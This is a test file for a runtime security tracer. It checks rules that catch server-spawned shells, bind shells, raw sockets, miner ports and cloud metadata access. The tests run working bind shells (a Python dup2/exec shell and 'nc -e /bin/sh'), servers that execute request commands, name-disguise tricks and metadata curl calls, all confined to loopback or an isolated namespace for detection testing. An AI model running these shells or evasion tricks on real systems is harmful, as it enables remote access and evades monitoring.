# SPDX-License-Identifier: Apache-2.0
"""Server identity by behaviour, bind shells, raw sockets, C2 ports and
cloud metadata (issues #12 items 3, 4 and #13 item 1), for real.

Every test runs real programs under the real tracer with the real probe
loaded with contrib/policy, and talks to the traced servers over
loopback. The attacks are dressed so that no name list can catch them: a
copied Python interpreter called "worker", a C server that renames its
thread with prctl(PR_SET_NAME), a renamed netcat. Connections to the
metadata addresses are made from a private network namespace, where they
fail at once (ENETUNREACH): the connect is what the rules see, and the
tests never reach a real metadata service.

Benign tests run ordinary servers and clients and assert that none of
the rules of this module fires (and, where nothing in them is odd, that
nothing fires at all).
"""

import os
import shutil
import socket
import sys
import tempfile
import textwrap
import time
import unittest

import scenlib
import harness

SRVTITLE = harness.helper('srvtitle')
PY = os.path.realpath(sys.executable)
NC = shutil.which('nc.traditional') or '/bin/nc.traditional'
CURL = shutil.which('curl') or '/usr/bin/curl'
UNSHARE = shutil.which('unshare') or '/usr/bin/unshare'

# The rules this module is about: the benign tests assert none fires.
OURS = {
    'shell_spawned_by_server_process', 'interpreter_spawned_by_server_process',
    'bind_shell', 'shell_or_inline_code_listening', 'raw_or_packet_socket',
    'miner_pool_port_connection', 'cloud_metadata_connect', 'aws_imds_ipv6_connect',
    'aws_container_credentials_connect', 'gcp_metadata_ipv6_connect',
    'azure_wireserver_connect', 'alibaba_metadata_connect',
    'oracle_metadata_legacy_connect', 'tencent_metadata_connect',
}

# The Python HTTP server whose handler runs the request's command.
HTTP_SERVER = textwrap.dedent('''\
    import http.server, subprocess, sys, urllib.parse
    class H(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
            out = b'hello\\n'
            if 'cmd' in q:
                out = subprocess.run(q['cmd'][0], shell=True, stdout=subprocess.PIPE).stdout
            self.send_response(200)
            self.send_header('Content-Length', str(len(out)))
            self.end_headers()
            self.wfile.write(out)
        def log_message(self, *a):
            pass
    srv = http.server.HTTPServer(('127.0.0.1', int(sys.argv[1])), H)
    open(sys.argv[2], 'w').write('ready\\n')
    srv.handle_request()
''')

# A bind shell in Python: listen, accept, dup2 the connection onto the
# standard streams and exec a shell in the same process.
PY_BIND_SHELL = textwrap.dedent('''\
    import os, socket, sys
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('127.0.0.1', int(sys.argv[1])))
    s.listen(1)
    open(sys.argv[2], 'w').write('ready\\n')
    c, _ = s.accept()
    for fd in (0, 1, 2):
        os.dup2(c.fileno(), fd)
    os.execv('/bin/sh', ['sh'])
''')


def free_port():
    s = socket.socket()
    s.bind(('127.0.0.1', 0))
    port = s.getsockname()[1]
    s.close()
    return port


def talk(port, data, timeout=30):
    """Connects to 127.0.0.1:PORT (retrying while the server is not yet
    accepting), sends DATA, returns everything read until EOF."""
    deadline = time.monotonic() + timeout
    while True:
        try:
            c = socket.create_connection(('127.0.0.1', port), timeout=timeout)
            break
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.05)
    with c:
        c.sendall(data)
        chunks = []
        while True:
            b = c.recv(65536)
            if not b:
                break
            chunks.append(b)
    return b''.join(chunks)


class NetServerTest(unittest.TestCase):

    maxDiff = None

    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix='sentrace-netsrv-')
        os.chmod(self.dir, 0o755)
        self.x = os.path.join(self.dir, 'x')
        os.makedirs(self.x)
        self.n = 0

    def tearDown(self):
        if os.environ.get('SENTRACE_SCN_KEEP') != '1':
            shutil.rmtree(self.dir, ignore_errors=True)

    def sub(self, name):
        self.n += 1
        return os.path.join(self.dir, '%02d-%s' % (self.n, name))

    def copy(self, src, name):
        dst = os.path.join(self.x, name)
        shutil.copy2(src, dst)
        return dst

    def serve(self, cmd, ready, port, request, policies=None):
        """Starts CMD traced, waits for READY, sends REQUEST to PORT, and
        returns (reply, TracedRun) once the server has exited."""
        bg = scenlib.start(cmd, self.sub('run'), policies or [scenlib.POLICY],
                           cwd=self.dir, timeout=120)
        try:
            harness.wait_for(lambda: os.path.exists(ready) or not bg.running(),
                             timeout=60, what='the traced server to listen')
            reply = talk(port, request) if bg.running() else b''
        except BaseException:
            harness.kill_group(bg.proc)
            raise
        return reply, bg.finish()

    def assertFired(self, run, want, msg=''):
        got = run.rule_ids()
        self.assertTrue(set(want) <= got, '%s: expected %s, got %s%s%s'
                        % (msg, sorted(want), sorted(got), run.describe(), run.summary()))

    def assertNoneOfOurs(self, run, msg=''):
        got = run.rule_ids() & OURS
        self.assertEqual(got, set(), '%s: fired:%s%s' % (msg, run.describe(), run.summary()))

    # ---- #13.1: a shell started by a server, whatever its name ----

    def test_python_server_from_copied_interpreter(self):
        worker = self.copy(PY, 'worker')
        script = os.path.join(self.dir, 'app.py')
        with open(script, 'w') as f:
            f.write(HTTP_SERVER)
        port, ready = free_port(), os.path.join(self.dir, 'ready')
        reply, run = self.serve([worker, script, str(port), ready], ready, port,
                                b'GET /?cmd=id%3Buname HTTP/1.0\r\n\r\n')
        self.assertIn(b'uid=', reply, run.summary())
        self.assertFired(run, ['shell_spawned_by_server_process'])
        alert = [a for a in run.alerts if a.get('rule_id') == 'shell_spawned_by_server_process']
        # The shell is the handler's child; its parent is "worker".
        self.assertTrue(any((a.get('process') or {}).get('file', '').endswith('/sh')
                            or 'dash' in (a.get('process') or {}).get('file', '')
                            for a in alert), run.describe())
        # No name list knows "worker": the capability made the alert.
        self.assertNotIn('web_server_spawned_shell', run.rule_ids())

    def test_interpreter_started_by_server(self):
        """A Python server's handler runs perl (flagged) and then its own
        interpreter again, as a reloader does (not flagged, though python
        is an interpreter by name)."""
        script = os.path.join(self.dir, 'interp.py')
        with open(script, 'w') as f:
            f.write(textwrap.dedent('''\
                import socket, subprocess, sys
                s = socket.socket()
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.bind(('127.0.0.1', int(sys.argv[1])))
                s.listen(1)
                open(sys.argv[2], 'w').write('ready\\n')
                c, _ = s.accept()
                c.recv(100)
                out = subprocess.run(['perl', '-e', 'print "interp-", 6*7, "\\n"'],
                                     stdout=subprocess.PIPE).stdout
                out += subprocess.run([sys.executable, '-c', 'print("self")'],
                                      stdout=subprocess.PIPE).stdout
                c.sendall(out)
                c.close()
                '''))
        port, ready = free_port(), os.path.join(self.dir, 'ready')
        reply, run = self.serve([PY, script, str(port), ready], ready, port, b'go\n')
        self.assertIn(b'interp-42', reply, run.summary())
        self.assertIn(b'self', reply, run.summary())
        hits = [a for a in run.alerts
                if a.get('rule_id') == 'interpreter_spawned_by_server_process']
        self.assertEqual([(a.get('process') or {}).get('file', '').split('/')[-1][:4]
                          for a in hits], ['perl'], run.describe() + run.summary())

    def test_c_server_with_a_title(self):
        self.assertIsNotNone(SRVTITLE, 'tests/helpers/srvtitle was not built')
        srv = self.copy(SRVTITLE, 'kdevtmpfsi')
        port, ready = free_port(), os.path.join(self.dir, 'ready')
        reply, run = self.serve([srv, str(port), 'kworker/u8:2', ready, 'exec'], ready, port,
                                b'echo pwned-$((6*7))\n')
        self.assertIn(b'pwned-42', reply, run.summary())
        self.assertFired(run, ['shell_spawned_by_server_process'])
        # The alert names the server in the lineage, with its port.
        alert = [a for a in run.alerts if a.get('rule_id') == 'shell_spawned_by_server_process']
        parent = ((alert[0].get('process') or {}).get('ancestors') or [{}])[0]
        self.assertEqual(parent.get('file'), srv, alert[0])
        self.assertTrue(parent.get('is_server'), alert[0])
        self.assertEqual(parent.get('listen_ports'), [port], alert[0])

    def test_preforked_worker_and_threads(self):
        """A master that listens in a thread of its own, then forks a
        worker (no exec) that accepts on the inherited listener and runs
        the request's command: the worker is a server by its accept, with
        the master's port, and the master by its listen."""
        worker = self.copy(PY, 'master')
        script = os.path.join(self.dir, 'prefork.py')
        with open(script, 'w') as f:
            f.write(textwrap.dedent('''\
                import os, socket, subprocess, sys, threading
                box = []
                def listen():
                    s = socket.socket()
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    s.bind(('127.0.0.1', int(sys.argv[1])))
                    s.listen(4)
                    box.append(s)
                t = threading.Thread(target=listen)
                t.start()
                t.join()
                pid = os.fork()
                if pid == 0:
                    def serve():
                        c, _ = box[0].accept()
                        cmd = c.recv(200).decode().strip()
                        c.sendall(subprocess.run(cmd, shell=True,
                                                 stdout=subprocess.PIPE).stdout)
                        c.close()
                    w = threading.Thread(target=serve)
                    w.start()
                    w.join()
                    os._exit(0)
                open(sys.argv[2], 'w').write('ready\\n')
                os.waitpid(pid, 0)
                '''))
        port, ready = free_port(), os.path.join(self.dir, 'ready')
        reply, run = self.serve([worker, script, str(port), ready], ready, port,
                                b'echo forked-$((6*7))\n')
        self.assertIn(b'forked-42', reply, run.summary())
        self.assertFired(run, ['shell_spawned_by_server_process'])
        alert = [a for a in run.alerts if a.get('rule_id') == 'shell_spawned_by_server_process']
        anc = (alert[0].get('process') or {}).get('ancestors') or []
        self.assertGreaterEqual(len(anc), 2, alert[0])
        # The worker (nearest) accepted on the master's port; the master listened.
        self.assertEqual(anc[0].get('listen_ports'), [port], alert[0])
        self.assertEqual(anc[1].get('listen_ports'), [port], alert[0])
        self.assertNotEqual(anc[0].get('pid'), anc[1].get('pid'))

    def test_fork_per_connection_handler(self):
        """socketserver.ForkingTCPServer: the master accepts and forks a
        handler (no exec), which runs the request's command. The shell's
        parent is the handler, a server's fork that holds the connection."""
        worker = self.copy(PY, 'httpd-lite')
        script = os.path.join(self.dir, 'forking.py')
        with open(script, 'w') as f:
            f.write(textwrap.dedent('''\
                import socketserver, subprocess, sys
                class H(socketserver.StreamRequestHandler):
                    def handle(self):
                        cmd = self.rfile.readline().decode().strip()
                        self.wfile.write(subprocess.run(cmd, shell=True,
                                                        stdout=subprocess.PIPE).stdout)
                srv = socketserver.ForkingTCPServer(('127.0.0.1', int(sys.argv[1])), H)
                open(sys.argv[2], 'w').write('ready\\n')
                srv.handle_request()
                srv.server_close()
                '''))
        port, ready = free_port(), os.path.join(self.dir, 'ready')
        reply, run = self.serve([worker, script, str(port), ready], ready, port,
                                b'echo handler-$((6*7))\n')
        self.assertIn(b'handler-42', reply, run.summary())
        self.assertFired(run, ['shell_spawned_by_server_process'])

    def test_postgres_copy_to_program(self):
        """A PostgreSQL backend (forked by the postmaster, no exec) runs
        COPY ... TO PROGRAM: a shell started by a server."""
        import pwd
        import subprocess
        import test_benign
        bindir = test_benign.postgres_bindir()
        psql = shutil.which('psql') or (bindir and os.path.join(bindir, 'psql'))
        self.assertTrue(bindir and psql, 'PostgreSQL is not installed: tools/setup installs it')
        pw = pwd.getpwnam('postgres')
        data, sockdir = os.path.join(self.dir, 'pgdata'), os.path.join(self.dir, 'pgsock')
        for d in (data, sockdir):
            os.makedirs(d)
            os.chown(d, pw.pw_uid, pw.pw_gid)
        as_pg = ['setpriv', '--reuid=%d' % pw.pw_uid, '--regid=%d' % pw.pw_gid, '--init-groups']
        out = subprocess.run(as_pg + [os.path.join(bindir, 'initdb'), '-D', data, '-A', 'trust',
                                      '-U', 'postgres', '--no-sync'],
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                             cwd=self.dir)
        self.assertEqual(out.returncode, 0, out.stdout)
        port = free_port()
        server = scenlib.start(
            as_pg + [os.path.join(bindir, 'postgres'), '-D', data, '-k', sockdir,
                     '-c', 'listen_addresses=127.0.0.1', '-p', str(port),
                     '-c', 'fsync=off', '-c', 'logging_collector=off'],
            self.sub('postgres'), [scenlib.POLICY], cwd=self.dir)
        stop = as_pg + [os.path.join(bindir, 'pg_ctl'), 'stop', '-D', data, '-w', '-m']
        try:
            def ready():
                if not server.running():
                    raise AssertionError('postgres exited early')
                return subprocess.run([psql, '-h', '127.0.0.1', '-p', str(port), '-U', 'postgres',
                                       '-c', 'SELECT 1'], stdout=subprocess.DEVNULL,
                                      stderr=subprocess.DEVNULL).returncode == 0
            harness.wait_for(ready, timeout=60, what='postgres to accept connections')
            out = subprocess.run([psql, '-h', '127.0.0.1', '-p', str(port), '-U', 'postgres', '-c',
                                  "COPY (SELECT 'x') TO PROGRAM 'id >/dev/null'"],
                                 stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                                 timeout=60)
            self.assertEqual(out.returncode, 0, out.stdout)
            subprocess.run(stop + ['fast'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                           timeout=60, cwd=self.dir)
            run = server.finish()
        except BaseException:
            subprocess.run(stop + ['immediate'], stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL, cwd=self.dir)
            harness.kill_group(server.proc)
            raise
        self.assertFired(run, ['shell_spawned_by_server_process', 'database_spawned_shell'])

    def test_udp_server(self):
        """A UDP server (bound to a port, no listen) whose handler runs the
        datagram's command is a server too."""
        worker = self.copy(PY, 'syslogd-helper')
        script = os.path.join(self.dir, 'udp.py')
        with open(script, 'w') as f:
            f.write(textwrap.dedent('''\
                import socket, subprocess, sys
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.bind(('127.0.0.1', int(sys.argv[1])))
                open(sys.argv[2], 'w').write('ready\\n')
                data, peer = s.recvfrom(512)
                s.sendto(subprocess.run(data.decode(), shell=True,
                                        stdout=subprocess.PIPE).stdout, peer)
                '''))
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind(('127.0.0.1', 0))
        port = u.getsockname()[1]
        u.close()
        ready = os.path.join(self.dir, 'ready')
        bg = scenlib.start([worker, script, str(port), ready], self.sub('udp'),
                           [scenlib.POLICY], cwd=self.dir, timeout=120)
        try:
            harness.wait_for(lambda: os.path.exists(ready) or not bg.running(),
                             timeout=60, what='the UDP server')
            c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            c.settimeout(30)
            c.sendto(b'echo udp-$((6*7))', ('127.0.0.1', port))
            reply = c.recv(512)
            c.close()
        except BaseException:
            harness.kill_group(bg.proc)
            raise
        run = bg.finish()
        self.assertIn(b'udp-42', reply, run.summary())
        self.assertFired(run, ['shell_spawned_by_server_process'])
        alert = [a for a in run.alerts if a.get('rule_id') == 'shell_spawned_by_server_process']
        anc = (alert[0].get('process') or {}).get('ancestors') or [{}]
        self.assertEqual(anc[0].get('listen_ports'), [port], alert[0])

    def test_benign_servers_and_clients(self):
        """A Python HTTP server (the real interpreter) answering a traced
        curl, and the C server echoing a line: no alert at all."""
        script = os.path.join(self.dir, 'app.py')
        with open(script, 'w') as f:
            f.write(HTTP_SERVER)
        port, ready = free_port(), os.path.join(self.dir, 'ready')
        port2, ready2 = free_port(), os.path.join(self.dir, 'ready2')
        sh = textwrap.dedent('''\
            set -e
            "$PY" "$APP" %d "$READY" &
            while [ ! -e "$READY" ]; do sleep 0.05; done
            "$CURL" -s -o "$OUT" http://127.0.0.1:%d/index.html
            wait
            "$SRV" %d title "$READY2" echo &
            while [ ! -e "$READY2" ]; do sleep 0.05; done
            "$PY" "$CLIENT" %d
            wait
            ''' % (port, port, port2, port2))
        client = os.path.join(self.dir, 'client.py')
        with open(client, 'w') as f:
            f.write('import socket, sys\n'
                    'c = socket.create_connection(("127.0.0.1", int(sys.argv[1])))\n'
                    'c.sendall(b"hi\\n")\n'
                    'print(c.recv(10))\n')
        env = dict(os.environ, PY=PY, APP=script, READY=ready, READY2=ready2, CURL=CURL,
                   OUT=os.path.join(self.dir, 'out'), SRV=SRVTITLE, CLIENT=client)
        run = scenlib.trace(['/bin/sh', '-c', sh], self.sub('benign'), [scenlib.POLICY],
                            env=env, cwd=self.dir, timeout=120)
        self.assertEqual(run.returncode, 0, run.summary())
        with open(os.path.join(self.dir, 'out'), 'rb') as f:
            self.assertEqual(f.read(), b'hello\n')
        self.assertEqual(run.rule_ids(), set(), run.describe() + run.summary())

    def test_documented_cgi_helper(self):
        """A web server running its CGI shell script: quiet once a local
        policy says the script is expected, flagged otherwise."""
        root = os.path.join(self.dir, 'www')
        os.makedirs(os.path.join(root, 'cgi-bin'))
        cgi = os.path.join(root, 'cgi-bin', 'status.sh')
        with open(cgi, 'w') as f:
            f.write('#!/bin/sh\nprintf "Content-Type: text/plain\\n\\nstatus-ok\\n"\n')
        os.chmod(cgi, 0o755)
        script = os.path.join(self.dir, 'cgi.py')
        with open(script, 'w') as f:
            f.write(textwrap.dedent('''\
                import http.server, os, sys
                os.chdir(sys.argv[3])
                srv = http.server.HTTPServer(('127.0.0.1', int(sys.argv[1])),
                                             http.server.CGIHTTPRequestHandler)
                open(sys.argv[2], 'w').write('ready\\n')
                srv.handle_request()
                '''))
        local = os.path.join(self.dir, '99-local.policy')
        with open(local, 'w') as f:
            f.write('version: 1\nlists:\n  - id: server_expected_children\n'
                    '    values: [%s]\n' % cgi)
        for told in (True, False):
            port, ready = free_port(), os.path.join(self.dir, 'ready-%s' % told)
            pol = [scenlib.POLICY] + ([local] if told else [])
            reply, run = self.serve([PY, script, str(port), ready, root], ready, port,
                                    b'GET /cgi-bin/status.sh HTTP/1.0\r\n\r\n', pol)
            self.assertIn(b'status-ok', reply, run.summary())
            if told:
                self.assertNoneOfOurs(run, 'expected CGI helper')
            else:
                self.assertFired(run, ['shell_spawned_by_server_process'], 'untold')

    # ---- #12.4: bind shells ----

    def test_bind_shell_netcat(self):
        port, ready = free_port(), os.path.join(self.dir, 'ready')
        # nc prints nothing when it listens: the shell's readiness is the
        # tracer's start plus the test's connection retries.
        open(ready, 'w').close()
        reply, run = self.serve([NC, '-l', '-p', str(port), '-e', '/bin/sh'], ready, port,
                                b'echo bound-$((6*7)); exit\n')
        self.assertIn(b'bound-42', reply, run.summary())
        self.assertFired(run, ['bind_shell', 'netcat_remote_exec'])

    def test_bind_shell_renamed_netcat(self):
        svc = self.copy(NC, 'svc')
        port, ready = free_port(), os.path.join(self.dir, 'ready')
        open(ready, 'w').close()
        reply, run = self.serve([svc, '-l', '-p', str(port), '-e', '/bin/sh'], ready, port,
                                b'echo bound-$((6*7)); exit\n')
        self.assertIn(b'bound-42', reply, run.summary())
        # The name rule is blind to "svc"; the behaviour is not.
        self.assertFired(run, ['bind_shell'])
        self.assertNotIn('netcat_remote_exec', run.rule_ids())

    def test_bind_shell_python(self):
        port, ready = free_port(), os.path.join(self.dir, 'ready')
        reply, run = self.serve([PY, '-c', PY_BIND_SHELL, str(port), ready], ready, port,
                                b'echo bound-$((6*7)); exit\n')
        self.assertIn(b'bound-42', reply, run.summary())
        self.assertFired(run, ['bind_shell', 'shell_or_inline_code_listening'])

    def test_bind_shell_python_script_copied_interpreter(self):
        worker = self.copy(PY, 'worker')
        script = os.path.join(self.dir, 'svc.py')
        with open(script, 'w') as f:
            f.write(PY_BIND_SHELL)
        port, ready = free_port(), os.path.join(self.dir, 'ready')
        reply, run = self.serve([worker, script, str(port), ready], ready, port,
                                b'echo bound-$((6*7)); exit\n')
        self.assertIn(b'bound-42', reply, run.summary())
        self.assertFired(run, ['bind_shell'])

    # ---- #12.4: raw and packet sockets ----

    def test_packet_and_raw_sockets(self):
        worker = self.copy(PY, 'worker')
        code = ('import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300).close(); '
                'socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()')
        run = scenlib.trace([worker, '-c', code], self.sub('raw'), [scenlib.POLICY],
                            cwd=self.dir, timeout=60)
        self.assertEqual(run.returncode, 0, run.summary())
        raw = [a for a in run.alerts if a.get('rule_id') == 'raw_or_packet_socket']
        self.assertEqual(len(raw), 2, run.describe() + run.summary())
        families = sorted((a.get('event') or {}).get('family') for a in raw)
        self.assertEqual(families, [socket.AF_INET, socket.AF_PACKET], run.describe())

    def test_ordinary_sockets_are_quiet(self):
        code = ('import socket; socket.socket().close(); '
                'socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).close(); '
                'socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).close()')
        run = scenlib.trace([PY, '-c', code], self.sub('socks'), [scenlib.POLICY],
                            cwd=self.dir, timeout=60)
        self.assertEqual(run.returncode, 0, run.summary())
        self.assertNoneOfOurs(run)

    # ---- #12.4: C2 and miner ports, by non-servers ----

    def test_miner_port_by_client_not_by_server(self):
        # A loopback listener on a miner port, outside the trace.
        lst = None
        for p in (4444, 3333, 5555, 14444, 45700, 7777):
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                s.bind(('127.0.0.1', p))
            except OSError:
                s.close()
                continue
            s.listen(8)
            lst = (p, s)
            break
        self.assertIsNotNone(lst, 'no miner port free on loopback')
        port, s = lst
        try:
            client = ('import socket; c = socket.create_connection(("127.0.0.1", %d)); c.close()'
                      % port)
            # A server (it listened first) connecting upstream to the same port.
            proxy = ('import socket; l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1); '
                     'c = socket.create_connection(("127.0.0.1", %d)); c.close()' % port)
            cl = self.copy(PY, 'client')
            px = self.copy(PY, 'proxy')
            script = os.path.join(self.dir, 'c.py')
            with open(script, 'w') as f:
                f.write(client.replace('; ', '\n'))
            pscript = os.path.join(self.dir, 'p.py')
            with open(pscript, 'w') as f:
                f.write(proxy.replace('; ', '\n'))
            # Loopback counts as outbound here (test-overrides.policy).
            pol = [scenlib.POLICY, scenlib.OVERRIDES]
            run = scenlib.trace([cl, script], self.sub('miner-client'), pol, cwd=self.dir)
            self.assertEqual(run.returncode, 0, run.summary())
            self.assertFired(run, ['miner_pool_port_connection'])
            run = scenlib.trace([px, pscript], self.sub('miner-proxy'), pol, cwd=self.dir)
            self.assertEqual(run.returncode, 0, run.summary())
            self.assertNotIn('miner_pool_port_connection', run.rule_ids(),
                             run.describe() + run.summary())
        finally:
            s.close()

    # ---- #12.3: cloud metadata ----

    def test_curl_metadata_addresses(self):
        sh = ('"$CURL" -s --connect-timeout 2 http://169.254.169.254/latest/meta-data/; '
              '"$CURL" -s -g --connect-timeout 2 "http://[fd00:ec2::254]/latest/meta-data/"; '
              '"$CURL" -s --connect-timeout 2 http://100.100.100.200/latest/meta-data/; '
              'true')
        env = dict(os.environ, CURL=CURL)
        run = scenlib.trace([UNSHARE, '-n', '/bin/sh', '-c', sh], self.sub('imds'),
                            [scenlib.POLICY], env=env, cwd=self.dir, timeout=60)
        self.assertFired(run, ['cloud_metadata_connect', 'aws_imds_ipv6_connect',
                               'alibaba_metadata_connect'])
        provider = {a.get('rule_id'): a for a in run.alerts}
        text = repr(provider['aws_imds_ipv6_connect'])
        self.assertIn('aws', text)
        self.assertIn('alibaba', repr(provider['alibaba_metadata_connect']))

    def test_metadata_by_an_ordinary_program_is_quiet(self):
        # A program that is neither shell, interpreter nor download tool
        # by any name (a copy of the C helper) asks the metadata address.
        app = self.copy(scenlib.ACTOR, 'agent')
        run = scenlib.trace([UNSHARE, '-n', app, 'connect-tcp', '169.254.169.254', '80'],
                            self.sub('imds-app'), [scenlib.POLICY], cwd=self.dir, timeout=60,
                            keep_events=True)
        self.assertNoneOfOurs(run)
        # The connect was seen: quiet because of who made it.
        with open(run.probe.events) as f:
            self.assertIn('169.254.169.254', f.read(), run.summary())


if __name__ == '__main__':
    scenlib.check_programs()
    for prog in (NC, CURL, UNSHARE):
        if not os.access(prog, os.X_OK):
            print('missing program: %s (tools/setup installs it)' % prog, file=sys.stderr)
            sys.exit(1)
    unittest.main(verbosity=2)
